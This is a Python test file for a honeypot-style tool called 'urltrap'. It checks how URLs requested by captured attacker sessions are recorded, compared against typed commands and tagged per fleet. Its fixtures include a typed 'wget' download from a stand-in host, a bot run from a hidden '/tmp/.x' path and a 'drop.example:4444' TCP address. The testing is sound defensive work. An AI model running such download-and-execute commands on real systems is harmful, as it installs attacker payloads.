"""What boxes asked for, at the far end of the line."""

from __future__ import annotations

from datetime import UTC, datetime

from sqlalchemy import select
from tests.pipeline.conftest import START, Bench

from urltrap.model.canary import canary_session, is_canary
from urltrap.model.event import WireScanned, WireSeen, decode_event, encode_event
from urltrap.model.ids import new_ulid
from urltrap.pipeline.fleet.naming import fleet_session, renamed
from urltrap.store.queries.wire import wire_gaps
from urltrap.store.schema import sightings, urls

STREAM = new_ulid(1_795_000_000_000, b"uplink----")


def _seen(
    session: str, seq: int = 0, protocol: str = "http", url: bytes = b"http://drop.example/x"
) -> WireSeen:
    return WireSeen.model_validate(
        {"session": STREAM, "seq": seq, "at": START, "for_session": session, "protocol": protocol, "url": url,
         "client": "bot", "argv": [b"/tmp/.x/bot"]}
    )  # fmt: skip


def test_a_url_that_only_the_wire_shows_is_a_sighting_of_its_attacker(bench: Bench) -> None:
    session = bench.visit(b"/tmp/.x/bot", address="203.0.113.9")
    bench.write([_seen(session), _seen(session, 1, "tcp", b"tcp://drop.example:4444")])
    bench.settle()
    with bench.store.connect() as connection:
        (row,) = connection.execute(
            select(sightings, urls.c.url).join(urls, urls.c.key == sightings.c.url_key)
        ).all()
    assert (row.url, row.method, row.src_ip, row.sensor) == (
        "http://drop.example/x", "wire", "203.0.113.9", "ssh",
    )  # fmt: skip
    assert row.client == "bot"


def test_what_text_did_not_show_is_told_with_its_program_and_what_was_typed(bench: Bench) -> None:
    session = bench.visit(b"wget http://said.example/y", b"/tmp/.x/bot")
    bench.write([_seen(session), _seen(session, 1, url=b"http://said.example/y"), _seen(session, 2)])
    bench.settle()
    found = wire_gaps(bench.store, 10)
    assert (found.urls, found.recovered) == (2, 1)
    (gap,) = found.rows
    assert (gap.url, gap.times, gap.session) == ("http://drop.example/x", 2, session)
    assert (gap.argv, gap.command) == ([b"/tmp/.x/bot"], b"/tmp/.x/bot")
    assert wire_gaps(bench.store, 0).rows == []


def test_what_the_synthetic_attackers_box_asks_for_is_his() -> None:
    assert is_canary(_seen(canary_session(STREAM))) and not is_canary(_seen(STREAM))


def test_a_fleet_keeps_whose_it_is() -> None:
    scan = WireScanned(session=STREAM, seq=1, at=START, for_session=STREAM, since=START, count=40)
    for event in (_seen(STREAM), scan):
        record = renamed("campus-1", encode_event(event), datetime.now(UTC))
        assert record is not None
        kept = decode_event(record)
        assert isinstance(kept, WireSeen | WireScanned)
        assert kept.for_session == fleet_session("campus-1", STREAM)
